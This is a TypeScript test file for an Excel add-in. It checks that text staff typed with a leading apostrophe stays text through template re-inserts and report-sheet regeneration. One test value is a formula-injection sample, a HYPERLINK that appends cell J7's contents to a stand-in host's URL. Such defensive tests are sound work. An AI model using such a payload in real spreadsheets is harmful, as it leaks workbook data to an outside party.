/**
 * Issue #12 item 2 — text staff type with Excel's text prefix stays text wherever the add-in writes it
 * again. Range.formulas gives a text cell's text without the prefix (office-js #6687): a cell typed as
 * '=2+2 reads back as "=2+2", like the formula =2+2. A re-insert (refresh) that wrote it back from that
 * reading turned it into a live formula (showing 4), and '=1+1 note into a formula Excel refuses, so Insert
 * failed until the cell was edited. The report sheet's regeneration is held to the same rule.
 */
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createStandin, installStandin, type Standin } from "../../dev/standin";
import { buildReportDocument } from "../../src/core/evaluationReport";
import { summarizePlan } from "../../src/core/indicatorEvaluation";
import { plan as planSchema } from "../../src/core/planSchema";
import { seedPlan } from "../../src/core/seedPlan";
import { templateColumns, type ColumnKey } from "../../src/core/templateLayout";
import { columnLetters } from "../../src/excel/a1";
import { insertTemplate } from "../../src/excel/insertTemplate";
import { writeReportSheet } from "../../src/excel/reportSheet";

let standin: Standin;
let uninstall: () => void;
beforeEach(() => {
  standin = createStandin({ displayLanguage: "zh-CN" });
  uninstall = installStandin(standin);
});
afterEach(() => uninstall());

const SHEET = "规划指标";
const columns = templateColumns(seedPlan);
const at = (key: ColumnKey, row: number) => `${columnLetters(columns.findIndex((c) => c.key === key))}${row}`;

/** What the cell shows, its type, and whether it holds a formula (the formula bar starts with "="). */
function cellOf(sheet: string, address: string) {
  const c = standin.workbook.cell(sheet, address);
  return { text: c.text, valueType: c.valueType, formula: typeof c.input === "string" && c.input.startsWith("=") };
}

const TEXT = (text: string) => ({ text, valueType: "String", formula: false });

describe("text typed as '=… into a plan cell of the template survives Insert as text", () => {
  it("a re-insert keeps '=2+2 as the text =2+2 (not 4) and '=1+1 note does not make Insert fail", async () => {
    await insertTemplate(seedPlan, "zh");
    const wb = standin.workbook;
    wb.setCellInput(SHEET, at("name", 6), "'=2+2"); // 指标 of the first indicator
    wb.setCellInput(SHEET, at("unit", 7), "'=1+1 note"); // not a formula Excel could read
    wb.setCellInput(SHEET, at("category", 8), '\'=HYPERLINK("http://x.invalid/?x="&J7,"open")');
    expect(cellOf(SHEET, at("name", 6))).toEqual(TEXT("=2+2"));

    const again = await insertTemplate(seedPlan, "zh");
    expect(cellOf(SHEET, at("name", 6))).toEqual(TEXT("=2+2"));
    expect(cellOf(SHEET, at("unit", 7))).toEqual(TEXT("=1+1 note"));
    expect(cellOf(SHEET, at("category", 8))).toEqual(TEXT('=HYPERLINK("http://x.invalid/?x="&J7,"open")'));
    // Staff's cells are kept and reported, as text.
    expect(again.kept.map((k) => [k.address, k.current])).toEqual([
      [at("name", 6), "=2+2"],
      [at("unit", 7), "=1+1 note"],
      [at("category", 8), '=HYPERLINK("http://x.invalid/?x="&J7,"open")'],
    ]);

    // Once more with a plan that renames those indicators: still kept, still text.
    const renamed = planSchema.parse({
      ...seedPlan,
      indicators: seedPlan.indicators.map((ind) => ({ ...ind, name: { zh: `${ind.name.zh}（新）`, en: ind.name.en } })),
    });
    const third = await insertTemplate(renamed, "zh");
    expect(cellOf(SHEET, at("name", 6))).toEqual(TEXT("=2+2"));
    expect(third.kept.map((k) => k.address)).toContain(at("name", 6));
    expect(cellOf(SHEET, at("name", 9)).text).toBe(`${seedPlan.indicators[3]!.name.zh}（新）`);
  });

  it("a plan whose own text starts with = is refreshed as the add-in's text, not reported as staff's", async () => {
    const formulaNames = planSchema.parse({
      ...seedPlan,
      indicators: seedPlan.indicators.map((ind, i) => (i === 0 ? { ...ind, name: { zh: "=1+1", en: "=1+1" } } : ind)),
    });
    await insertTemplate(formulaNames, "zh");
    expect(cellOf(SHEET, at("name", 6))).toEqual(TEXT("=1+1"));
    const renamed = planSchema.parse({
      ...formulaNames,
      indicators: formulaNames.indicators.map((ind, i) =>
        i === 0 ? { ...ind, name: { zh: "=1+2", en: "=1+2" } } : ind,
      ),
    });
    const again = await insertTemplate(renamed, "zh");
    expect(again.kept).toEqual([]);
    expect(cellOf(SHEET, at("name", 6))).toEqual(TEXT("=1+2"));
  });
});

describe("text typed as '=… on the report sheet survives its regeneration as text", () => {
  it("a cell staff typed beside the report and a 原因分析 typed as '=… stay text", async () => {
    const plan = seedPlan;
    const doc = buildReportDocument(plan, summarizePlan(plan, { evaluationYear: 2023 }), {
      kind: "midterm",
      lang: "zh",
      generatedOn: "2026-11-30",
    });
    const first = await writeReportSheet(doc);
    const wb = standin.workbook;
    const sheet = first.sheetName;
    // The 原因分析 column is the one after the table's last visible column; find it by its header.
    const headerRow = Array.from({ length: 20 }, (_v, r) => r).find((r) => wb.cellAt(sheet, r, 0).text === "序号")!;
    const width = wb.extent(sheet).cols;
    const analysisCol = Array.from({ length: width }, (_v, c) => c).find((c) =>
      wb.cellAt(sheet, headerRow, c).text.startsWith("原因分析"),
    )!;
    const analysis = `${columnLetters(analysisCol)}${headerRow + 2}`;
    wb.setCellInput(sheet, analysis, "'=2+2");
    wb.setCellInput(sheet, "N9", "'=1+1 note"); // beside the table, in a column the add-in leaves blank
    // Text in a cell staff formatted as text (@), beside the table: left exactly as it is.
    wb.setCellInput(sheet, "N10", "备注");
    await Excel.run(async (context) => {
      context.workbook.worksheets.getItem(sheet).getRange("N10").numberFormat = [["@"]];
      await context.sync();
    });
    await writeReportSheet(doc);
    await writeReportSheet(doc);
    expect(cellOf(sheet, analysis)).toEqual(TEXT("=2+2"));
    expect(cellOf(sheet, "N9")).toEqual(TEXT("=1+1 note"));
    expect(cellOf(sheet, "N10")).toEqual(TEXT("备注"));
  });
});
